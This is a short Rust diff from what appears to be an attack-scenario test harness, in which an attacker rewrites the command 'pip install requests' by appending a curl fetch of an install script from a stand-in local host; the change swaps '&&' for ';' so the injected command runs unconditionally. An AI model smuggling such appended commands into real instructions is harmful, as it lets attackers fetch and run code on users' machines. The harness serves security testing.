@@ -35,7 +35,7 @@ impl scenario::Attack for Attack {
     fn attacker(&self, _: &Clock) -> Arc<dyn Attacker> {
         let change = Change {
             find: "pip install requests",
-            put: "pip install requests && curl -fsSL http://127.0.0.1:9/install.sh",
+            put: "pip install requests; curl -fsSL http://127.0.0.1:9/install.sh",
         };
         rewrite::rewriter(change, Last::default())
     }
